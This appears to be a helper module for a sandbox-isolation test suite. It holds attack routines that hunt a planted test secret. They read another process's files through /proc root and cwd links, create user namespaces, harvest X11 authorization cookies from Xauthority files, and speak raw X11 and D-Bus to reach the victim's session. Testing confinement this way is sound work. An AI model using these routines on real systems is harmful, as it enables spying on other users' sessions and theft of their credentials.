"""What attacks share. An attack knows everything but the secret: names, paths, process ids, uids of its victim.

`attempt` tries several ways; it exits 0 when one of them brought something. What it brought is on standard output, the
reasons of the others on standard error. Environment: see `attacks/table.rs` and `Stage::knowledge`.
"""

import ctypes
import glob
import os
import re
import socket
import struct
import sys

KNOWN = os.environ
SECRET = re.compile(rb"secret-[0-9a-f]{32}")
libc = ctypes.CDLL(None, use_errno=True)


def attempt(*ways):
    won = False
    for way in ways:
        try:
            prize = way()
        except Exception as fault:
            print(f"{way.__name__}: {type(fault).__name__}: {fault}", file=sys.stderr)
            continue
        if prize:
            won = True
            print(f"{way.__name__}: {prize.decode(errors='replace') if isinstance(prize, bytes) else prize}")
        else:
            print(f"{way.__name__}: nothing", file=sys.stderr)
    sys.stdout.flush()
    os._exit(0 if won else 3)


def secret_in(data):
    """The first secret in some bytes."""
    found = SECRET.search(data)
    return found.group() if found else None


def checked(result):
    """The result of a call into the C library; its errno as an exception."""
    if result == -1 or result == ctypes.c_void_p(-1).value:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def pids():
    """Every process that can be seen, and the victim's even if not."""
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    told = [int(KNOWN[name]) for name in ("V_PID", "V_APP_PID", "V_DISPLAY_PID", "AGENTD_PID") if KNOWN.get(name)]
    return [pid for pid in dict.fromkeys(told + seen) if pid != os.getpid()]


def views(inside, host):
    """Names under which a file of the victim might be reached: its path in the victim's view, on the host, and
    through the root and the working directory of every process."""
    paths = [inside, host]
    for pid in pids():
        paths += [f"/proc/{pid}/root{inside}", f"/proc/{pid}/root{host}"]
        paths += [f"/proc/{pid}/cwd/{os.path.basename(inside)}"]
    return paths


def read(path, size=1 << 20):
    with open(path, "rb") as file:
        return file.read(size)


def steal_file(inside, host):
    """A secret in a file, under any of its names."""
    last = None
    for path in views(inside, host):
        try:
            found = secret_in(read(path))
        except OSError as fault:
            last = fault
            continue
        if found:
            return found
    if last:
        raise last
    return None


def in_new_namespaces(work):
    """Does something as root of a new user namespace, with file systems that it may unmount."""
    child_says, parent_hears = os.pipe()[::-1]
    if os.fork() == 0:
        try:
            uid, gid = os.getuid(), os.getgid()
            checked(libc.unshare(0x10000000 | 0x00020000))
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
                with open(f"/proc/self/{name}", "w") as file:
                    file.write(text)
            os.write(child_says, work() or b"")
        except Exception as fault:
            print(f"in_new_namespaces: {fault}", file=sys.stderr)
        os._exit(0)
    os.close(child_says)
    return os.read(parent_hears, 4096)


def connect(address, timeout=2):
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(timeout)
    link.connect(address)
    return link


def hear(address):
    """A secret that whoever listens there says."""
    family = socket.AF_INET if isinstance(address, tuple) else socket.AF_UNIX
    with socket.socket(family) as link:
        link.settimeout(2)
        link.connect(address)
        return secret_in(link.recv(4096))


def exactly(link, size):
    data = b""
    while len(data) < size:
        more = link.recv(size - len(data))
        if not more:
            raise EOFError(f"ended after {data!r}")
        data += more
    return data


class X:
    """As much of an X client as it takes to leave something in CUT_BUFFER0 of the root window, or to read it."""

    def __init__(self, address, cookie):
        self.link = connect(address)
        name = b"MIT-MAGIC-COOKIE-1" if cookie else b""
        self.link.sendall(struct.pack("<BxHHHHxx", ord("l"), 11, 0, len(name), len(cookie)) + pad(name) + pad(cookie))
        status, reason, _, _, length = struct.unpack("<BBHHH", exactly(self.link, 8))
        setup = exactly(self.link, length * 4)
        if status != 1:
            raise PermissionError(setup[:reason].decode(errors="replace"))
        vendor, formats = struct.unpack_from("<H", setup, 16)[0], setup[21]
        self.root = struct.unpack_from("<I", setup, 32 + (vendor + 3) // 4 * 4 + 8 * formats)[0]

    def leave(self, text):
        data = pad(text)
        self.link.sendall(struct.pack("<BBHIIIBxxxI", 18, 0, 6 + len(data) // 4, self.root, 9, 31, 8, len(text)) + data)
        self.look()

    def look(self):
        self.link.sendall(struct.pack("<BBHIIIII", 20, 0, 6, self.root, 9, 0, 0, 64))
        reply = exactly(self.link, 32)
        return exactly(self.link, struct.unpack_from("<I", reply, 4)[0] * 4)


def pad(data, unit=4):
    return data + b"\0" * (-len(data) % unit)


def cookies():
    """Everything that looks like an X cookie: 16 bytes after the name of the protocol."""
    state = f"{KNOWN['V_S']}"
    found = []
    for inside, host in (
        ("/run/session/Xauthority", f"{state}/run/Xauthority"),
        ("/run/session/Xauthority", f"{state}/Xauthority.agentd"),
    ):
        for path in views(inside, host):
            try:
                data = read(path)
            except OSError:
                continue
            for match in re.finditer(rb"MIT-MAGIC-COOKIE-1\0\x10(.{16})", data, re.DOTALL):
                found.append(match.group(1))
    return list(dict.fromkeys(found))


class Bus:
    """As much of a D-Bus client as it takes to call methods of the bus itself."""

    def __init__(self, address):
        self.link, self.serial = connect(address), 0
        self.link.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        answer = self.link.recv(256)
        if not answer.startswith(b"OK"):
            raise PermissionError(answer.decode(errors="replace"))
        self.link.sendall(b"BEGIN\r\n")
        self.call("Hello")

    def call(self, member, signature="", body=b""):
        """A method of org.freedesktop.DBus; the raw answer."""
        self.serial += 1
        fields = b""
        for code, kind, text in (
            (1, "o", "/org/freedesktop/DBus"),
            (2, "s", "org.freedesktop.DBus"),
            (3, "s", member),
            (6, "s", "org.freedesktop.DBus"),
            (8, "g", signature),
        ):
            if not text:
                continue
            fields = pad(fields, 8) + bytes([code, 1]) + kind.encode() + b"\0"
            fields += (bytes([len(text)]) if kind == "g" else struct.pack("<I", len(text))) + text.encode() + b"\0"
        head = struct.pack("<BBBBIII", ord("l"), 1, 0, 1, len(body), self.serial, len(fields)) + fields
        self.link.sendall(pad(head, 8) + body)
        # Signals may come first.
        while True:
            start = exactly(self.link, 16)
            size, fields = struct.unpack_from("<I", start, 4)[0], struct.unpack_from("<I", start, 12)[0]
            rest = exactly(self.link, (fields + 7) // 8 * 8 + size)
            if start[1] in (2, 3):
                return rest


def sysv_key():
    return int(KNOWN["TAG"][:7], 16)
